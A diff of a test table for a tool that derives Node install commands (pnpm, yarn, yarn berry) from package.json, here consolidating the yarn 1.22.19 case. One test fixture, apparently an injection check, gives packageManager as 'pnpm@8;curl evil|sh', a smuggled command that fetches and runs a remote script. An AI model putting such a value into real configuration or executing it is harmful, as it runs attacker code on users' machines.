@@ -205,8 +205,8 @@ NODE: dict[str, tuple[dict[str, str], str]] = {
         "npx --yes pnpm@8.2.1 install --frozen-lockfile",
     ),
     "yarn": (
-        {"package.json": package(), "yarn.lock": ""},
-        "npx --yes yarn@1.22.22 install --frozen-lockfile --non-interactive",
+        {"package.json": package(packageManager="yarn@1.22.19"), "yarn.lock": ""},
+        "npx --yes yarn@1.22.19 install --frozen-lockfile --non-interactive",
     ),
     "yarn berry": (
         {"package.json": package(packageManager="yarn@4.1.0"), "yarn.lock": "", ".yarnrc.yml": ""},
@@ -219,10 +219,6 @@ NODE: dict[str, tuple[dict[str, str], str]] = {
     "yarn berry without settings": (
         {"package.json": package(packageManager="yarn@3.6.4+sha256.ab"), "yarn.lock": ""},
         "npx --yes @yarnpkg/cli-dist@3.6.4 install --immutable",
-    ),
-    "old yarn that is named": (
-        {"package.json": package(packageManager="yarn@1.22.19"), "yarn.lock": ""},
-        "npx --yes yarn@1.22.19 install --frozen-lockfile --non-interactive",
     ),
     "a manager that is a command": (
         {"package.json": package(packageManager="pnpm@8;curl evil|sh"), "pnpm-lock.yaml": ""},
